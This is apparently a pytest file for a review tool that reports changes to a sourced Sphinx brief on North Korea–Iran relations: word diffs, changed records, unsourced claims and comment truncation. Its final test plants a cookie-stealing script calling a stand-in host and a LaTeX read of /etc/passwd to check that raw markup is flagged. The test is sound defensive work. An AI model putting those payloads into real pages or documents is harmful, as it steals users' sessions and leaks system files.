"""The review as reviewers read it: two commits of a small brief, the report's text.

Each test makes a git repository in a temporary folder with a small brief that uses the
real ``event`` and ``quote`` directives and ``{footcite}`` notes, commits it, edits the
working tree the way an author would and runs ``python -m tools.review``; it then reads
the report as a reviewer does: word-level changes, records changed field by field, the
sourcing section, preview links and the comment cut to GitHub's limit.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from sphinx_brief.core.export import EVENT_FIELDS, QUOTE_FIELDS
from tools.review import comment, records
from tools.review.words import Paragraph, compare_paragraphs, word_diff

from .test_review import git, run_review, section, subsection, write

CONF = """\
project = "Small brief"
extensions = ["myst_parser", "sphinx_brief"]
myst_enable_extensions = ["colon_fence"]
bibtex_bibfiles = ["../refs.bib"]
bibtex_default_style = "brief"
exclude_patterns = ["_build"]
"""

BIB = """\
@article{afp2009,
  title   = {{Kim Congratulates Ahmadinejad}},
  journal = {Agence France-Presse},
  date    = {2009-06-15},
}

@article{times2010,
  author  = {Hilder, James},
  title   = {{Arms Plane Bound for Hezbollah}},
  journal = {The Times},
  date    = {2010-05-13},
}

@article{unused2008,
  title   = {{A Source Nobody Cites}},
  journal = {Xinhua},
  date    = {2008-09-24},
}
"""

LONG = (
    "In June 2009, the North Korean government congratulated Iranian President Mahmoud "
    "Ahmadinejad on his re-election, and the de facto head of state, {who}, praised the "
    "people's support of the Iranian president in a message sent from Pyongyang.{{footcite}}"
    "`afp2009` The message was read on state radio."
)


def page(who: str, event_date: str, event_title: str, extra: str = "") -> str:
    return (
        "# Brief\n\n"
        "## Diplomacy\n\n"
        f"{LONG.format(who=who)}\n\n"
        f":::{{event}} {event_date}\n:title: {event_title}\n:source: times2010\n:::\n\n"
        "The de facto head of state said that he\n\n"
        ":::{quote}\n:speaker: Kim Yong-Nam\n:date: 2009-06\n:source: afp2009\n\n"
        "We wish success.\n:::\n\n"
        f"{extra}"
        "```{footbibliography}\n```\n"
    )


@pytest.fixture(scope="module")
def changed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """One word changed, an event's date and title edited, an unsourced paragraph added."""
    tmp_path = tmp_path_factory.mktemp("changes")
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    write(
        repo,
        {
            "docs/conf.py": CONF,
            "docs/index.md": page("Kim", "2010-05", "Lieberman says the arms were for Hezbollah"),
            "refs.bib": BIB,
        },
    )
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    write(
        repo,
        {
            "docs/index.md": page(
                "Kim Yong-Nam",
                "2010-05-13",
                "Lieberman says the Il-76 arms were meant for Hezbollah",
                "Pyongyang and Tehran signed a new agreement on trade in the autumn.\n\n"
                "% unsourced: the editor's summary of the section\n"
                "The two governments have kept close ties ever since the revolution.\n\n",
            ),
            "refs.bib": BIB.replace("{2009-06-15}", "{2009-06-16}"),
        },
    )
    result = run_review(
        repo,
        tmp_path,
        "--base",
        "main",
        "--out",
        "-",
        "--pr",
        "42",
        "--preview-url",
        "https://brief--{pr}.org.readthedocs.build/en/{pr}/{page}",
    )
    assert result.returncode == 0, result.stderr
    return repo, result.stdout


def test_a_word_change_is_shown_as_words_with_its_sentence(changed: tuple[Path, str]) -> None:
    _repo, report = changed
    index = subsection(section(report, "Pages"), "`index`: changed")
    words = index.split("<details>")[0]
    assert "Changed paragraphs, word by word" in words
    line = next(line for line in words.splitlines() if line.startswith("- ") and "**" in line)
    # the changed words, marked, inside the sentence that holds them
    assert "Kim **Yong-Nam**, praised" in line  # the word added, the comma where it was
    assert line.startswith("- “Diplomacy”, line ")
    assert "In June 2009, the North Korean government" in line  # the sentence, as context
    assert "state radio" not in line  # the unchanged next sentence is not repeated
    assert line.rstrip().endswith("…")
    # the note's source changed (its date): the marker stays, the note is said changed
    assert "~~\\[1\\]~~" not in line and "Pyongyang.\\[1\\] *(note changed)*" in line
    # the line diff of the wrapped text is still there, folded away
    assert "<summary>The rendered text, line by line</summary>" in index
    assert "```diff" in index.split("<details>")[1]


def test_an_added_paragraph_is_named_not_diffed(changed: tuple[Path, str]) -> None:
    _repo, report = changed
    index = subsection(section(report, "Pages"), "`index`: changed")
    added = index.split("Added paragraphs:")[1].split("<details>")[0]
    assert "Pyongyang and Tehran signed a new agreement on trade in the autumn." in added


def test_an_event_with_a_new_date_and_title_is_one_changed_event(
    changed: tuple[Path, str],
) -> None:
    _repo, report = changed
    events = section(report, "Events")
    assert "### Added" not in events and "### Removed" not in events
    assert "- **Events**: 1 changed" in report
    changed_events = subsection(events, "Changed")
    assert "| `date` | 2010-05 | 2010-05-13 |" in changed_events
    assert "| `date_display` | May 2010 | May 13, 2010 |" in changed_events
    assert (
        "| `title` | Lieberman says the arms were for Hezbollah | "
        "Lieberman says the Il-76 arms were meant for Hezbollah |"
    ) in changed_events


def test_a_changed_source_lists_its_changed_fields(changed: tuple[Path, str]) -> None:
    _repo, report = changed
    sources = subsection(section(report, "Sources"), "Changed")
    assert "- `afp2009` (fields changed: `date`)" in sources
    assert "  - `date`: 2009-06-16 → 2009-06-16" not in sources
    assert "  - `date`: 2009-06-15 → 2009-06-16" in sources


def test_sourcing_section_of_the_touched_pages(changed: tuple[Path, str]) -> None:
    _repo, report = changed
    sourcing = section(report, "Sourcing of the pages changed")
    # the new claim without a note is named, with its section and line
    assert re.search(
        r"^- `index`: “Diplomacy”, line \d+: Pyongyang and Tehran signed a new agreement",
        sourcing,
        re.M,
    ), sourcing
    # the paragraph that leads into a sourced quotation is covered by it
    assert "The de facto head of state said that he" not in sourcing
    # the explained exception is listed with its reason, not as a finding
    explained = subsection(sourcing, "Explained on the page")
    assert "The two governments have kept close ties" in explained
    assert "the editor's summary of the section" in explained
    # a source changed, so the entries cited nowhere are listed
    assert "- `unused2008`" in subsection(sourcing, "Sources cited nowhere")
    assert "- **Unsourced on the pages changed**: 2" in report


def test_each_changed_page_links_to_its_preview(changed: tuple[Path, str]) -> None:
    _repo, report = changed
    index = subsection(section(report, "Pages"), "`index`: changed")
    assert (
        "[Preview of this page](https://brief--42.org.readthedocs.build/en/42/index.html)" in index
    )


def test_a_date_after_the_source_is_reported_unless_explained(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    write(repo, {"docs/conf.py": CONF, "docs/index.md": "# Brief\n\nStart.\n", "refs.bib": BIB})
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    body = (
        "# Brief\n\n"
        ":::{event} 2010-06\n:title: Too late for its source\n:source: afp2009\n:::\n\n"
        ":::{event} 2010-07\n:title: Explained\n:source: afp2009\n"
        ":date-note: The source reports the plan, not the event.\n:::\n\n"
        ":::{event} 2009-06\n:title: Unsourced event\n:::\n\n"
        "```{footbibliography}\n```\n"
    )
    write(repo, {"docs/index.md": body})
    result = run_review(repo, tmp_path, "--base", "main", "--out", "-")
    assert result.returncode == 0, result.stderr
    sourcing = section(result.stdout, "Sourcing of the pages changed")
    dated = subsection(sourcing, "Records dated after a source of theirs was published")
    assert "Too late for its source" in dated and "`afp2009`" in dated
    assert "(2009-06-15)" in dated and "Explained" not in dated
    explained = subsection(sourcing, "Explained on the page")
    assert "The source reports the plan, not the event." in explained
    assert "Unsourced event` has no source" in subsection(
        sourcing, "Quotations and events without a source"
    )


def test_the_comment_is_cut_at_the_limit_with_a_link(tmp_path: Path) -> None:
    report = "# Review\n\n" + "\n".join(
        ["```diff", *(f"+line {i}" for i in range(3000)), "```", "", "## Sources", ""]
    )
    body = comment.for_comment(report, full_url="https://example.org/run/1", limit=5000)
    assert len(body) <= 5000
    assert body.startswith(comment.MARKER)
    assert body.count("```") % 2 == 0  # the open fence is closed
    assert "**The report is cut here**" in body
    assert "[the full report](https://example.org/run/1)" in body
    short = comment.for_comment("# Review\n\nsmall\n", full_url=None)
    assert short == f"{comment.MARKER}\n# Review\n\nsmall\n"
    # and from the command line, as the workflow does it
    assert comment.GITHUB_LIMIT == 65536


def test_the_cli_writes_a_comment_file(changed: tuple[Path, str], tmp_path: Path) -> None:
    repo, _report = changed
    out = tmp_path / "comment.md"
    result = run_review(
        repo,
        tmp_path,
        "--base",
        "main",
        "--out",
        str(tmp_path / "review.md"),
        "--comment-out",
        str(out),
        "--comment-limit",
        "3000",
        "--full-report-url",
        "https://example.org/run/7",
    )
    assert result.returncode == 0, result.stderr
    body = out.read_text(encoding="utf-8")
    full = (tmp_path / "review.md").read_text(encoding="utf-8")
    assert len(full) > 3000 and len(body) <= 3000
    assert body.startswith(comment.MARKER + "\n# Review")
    assert "[the full report](https://example.org/run/7)" in body


def test_the_review_reads_the_exports_through_their_declared_fields(tmp_path: Path) -> None:
    """The exporters write exactly the declared fields, and the tool reads those."""
    src = tmp_path / "src"
    write(src, {"conf.py": CONF.replace("../refs.bib", "refs.bib"), "refs.bib": BIB})
    write(src, {"index.md": page("Kim", "2010-05", "Lieberman speaks")})
    out = tmp_path / "html"
    subprocess.run(
        [sys.executable, "-m", "sphinx", "-b", "html", "-q", str(src), str(out)],
        check=True,
        capture_output=True,
        timeout=300,
    )
    events = json.loads((out / "events.json").read_text(encoding="utf-8"))
    quotes = json.loads((out / "quotes.json").read_text(encoding="utf-8"))
    assert events and quotes
    assert all(tuple(item) == EVENT_FIELDS for item in events)
    assert all(tuple(item) == QUOTE_FIELDS for item in quotes)
    assert records.EVENTS.fields == EVENT_FIELDS and records.QUOTES.fields == QUOTE_FIELDS
    shown = {name for name, _header in records.EVENTS.columns}
    assert shown <= set(EVENT_FIELDS)
    assert {name for name, _header in records.QUOTES.columns} <= set(QUOTE_FIELDS)
    loaded, why = records.load_records(out, records.EVENTS)
    assert why is None and loaded == events


def test_the_brief_own_sourcing_report_is_clean(tmp_path: Path) -> None:
    from .conftest import ROOT

    out = tmp_path / "sources-report.md"
    result = subprocess.run(
        [sys.executable, "-m", "tools.review", "--sources-report", "--out", str(out)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
    )
    report = out.read_text(encoding="utf-8")
    assert result.returncode == 0, report + result.stderr
    assert "Nothing in the brief is stated without a source." in report
    explained = report.split("# Explained on the page")[1]
    # the brief's two dates that disagree with their sources are explained by date notes
    assert explained.count("after its source") == 2
    assert "# Paragraphs that state something without a note" not in report


def note(label: str, content: str) -> str:
    """A note token as the probe writes it."""
    return f"\x00{label}\x00{chr(1).join(content.split())}\x00"


def test_notes_are_compared_by_content_not_by_number() -> None:
    source = "Agence France-Presse, June 15, 2009."
    before = [Paragraph("Kim spoke." + note("1", source))]
    # a note added above renumbers this one: the same note, so the same paragraph
    after = [
        Paragraph("A new claim." + note("1", "The Times.")),
        Paragraph("Kim spoke." + note("2", source)),
    ]
    changes = compare_paragraphs(before, after)
    assert not changes.changed and not changes.removed
    assert [p.text for p in changes.added] == [after[0].text]
    # another note at the same place is a change of that note
    moved = [Paragraph("Kim spoke." + note("1", "Xinhua, 2008."))]
    (pair,) = compare_paragraphs(before, moved).changed
    assert word_diff(*pair) == "Kim spoke.\\[1\\] *(note changed)*"


def test_a_rewrapped_paragraph_is_not_a_change() -> None:
    text = "One sentence here. Another sentence there."
    assert not compare_paragraphs([Paragraph(text)], [Paragraph(text.replace(" ", "  "))])


def test_abbreviations_do_not_cut_the_context() -> None:
    before = Paragraph("First, a sentence. Then the U.S. envoy met Kim in Pyongyang. Last one.")
    after = Paragraph("First, a sentence. Then the U.S. envoy met Kim in Tehran. Last one.")
    assert word_diff(before, after) == (
        "… Then the U.S. envoy met Kim in ~~Pyongyang~~ **Tehran**. …"
    )


def test_sources_report_fails_on_what_is_not_sourced(tmp_path: Path) -> None:
    """``make sources-report`` on a brief outside git: each kind of finding, exit status 1."""
    from .conftest import ROOT

    src = tmp_path / "docs"
    body = (
        "# Brief\n\n"
        "A claim that nobody sourced sits in this paragraph.\n\n"
        "A claim cited the other way.{cite:p}`times2010`\n\n"
        ":::{quote}\n:speaker: Nobody\n:date: 2009\n\nWords without a source.\n:::\n\n"
        "```{bibliography}\n```\n"
    )
    write(src, {"conf.py": CONF, "index.md": body})
    write(tmp_path, {"refs.bib": BIB})
    out = tmp_path / "report.md"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "tools.review",
            "--sources-report",
            "--docs",
            str(src),
            "--out",
            str(out),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
    )
    report = out.read_text(encoding="utf-8")
    assert result.returncode == 1, report + result.stderr
    unsourced = section(report, "Paragraphs that state something without a note")
    assert "A claim that nobody sourced" in unsourced
    assert "cited the other way" not in unsourced  # a {cite} is a note too
    assert "Quotation `Nobody — Words without a source.` has no source" in section(
        report, "Quotations and events without a source"
    )
    uncited = section(report, "Sources cited nowhere")
    assert "- `afp2009`" in uncited and "- `unused2008`" in uncited
    assert "times2010" not in uncited


def test_records_are_matched_by_name_then_by_their_page_and_words() -> None:
    def event(date: str, title: str, url: str) -> dict[str, object]:
        return dict(zip(EVENT_FIELDS, [date, date, title, [], "", ["a"], None, url], strict=True))

    base = [
        event("2009", "Named event", "index.html#event-launch"),
        event("2008", "Iran and North Korea sign a trade deal", "index.html#event-2008-iran"),
        event("2007", "Sanctions are tightened on the firms", "other.html#event-2007"),
    ]
    head = [
        # :name: launch: the anchor stays although date and title both changed
        event("2010", "Something else entirely", "index.html#event-launch"),
        # no name: the anchor changed with the date; same page, nearly the same words
        event("2008-05", "Iran and North Korea sign a new trade deal", "index.html#event-2008-05"),
        # like words on another page, another date: another event
        event("2007-02", "Sanctions are tightened on the two firms", "new.html#event-2007-02"),
    ]
    changes = records.compare_records(base, head, records.EVENTS)
    assert [(b["title"], a["title"]) for b, a, _names in changes.changed] == [
        ("Named event", "Something else entirely"),
        ("Iran and North Korea sign a trade deal", "Iran and North Korea sign a new trade deal"),
    ]
    assert [r["url"] for r in changes.added] == ["new.html#event-2007-02"]
    assert [r["url"] for r in changes.removed] == ["other.html#event-2007"]


def test_raw_markup_a_change_adds_or_alters_is_listed_first_verbatim(tmp_path: Path) -> None:
    """Raw HTML and LaTeX leave the rendered text unchanged (they are left out of it, or are
    markup): the report lists each piece the change adds or alters, as written, first."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    kept = 'A <span class="x">kept</span> span stays.\n\n'
    other = "Other\n=====\n\nWords.\n\n.. raw:: latex\n\n   \\newpage\n"
    toctree = "```{toctree}\nother\n```\n\n"
    write(
        repo,
        {
            "docs/conf.py": CONF,
            "docs/index.md": page("Kim", "2010-05", "Arms", kept + toctree),
            "docs/other.rst": other,
            "refs.bib": BIB,
        },
    )
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    added = "<script>fetch('https://t.example/?c='+document.cookie)</script>\n\n"
    write(
        repo,
        {
            "docs/index.md": page("Kim", "2010-05", "Arms", kept + added + toctree),
            "docs/other.rst": other.replace("\\newpage", "\\input{/etc/passwd}"),
        },
    )
    result = run_review(repo, tmp_path, "--base", "main", "--out", "-")
    assert result.returncode == 0, result.stderr
    report = result.stdout
    raw = section(report, "Raw HTML and LaTeX added or changed")
    assert report.index("## Raw HTML and LaTeX") < report.index("- **Pages**")
    assert "2 raw pieces that this change adds or alters" in raw
    assert re.search(r"^`index`, line 24: raw HTML$", raw, re.M), raw
    assert "```html\n<script>fetch('https://t.example/?c='+document.cookie)</script>\n```" in raw
    assert re.search(r"^`other`, line 6: raw LaTeX$", raw, re.M), raw
    assert "```latex\n\\input{/etc/passwd}\n```" in raw
    assert "kept" not in raw and "newpage" not in raw  # unchanged, or gone: not listed
    assert "- **Raw HTML or LaTeX added or changed**: 2" in report
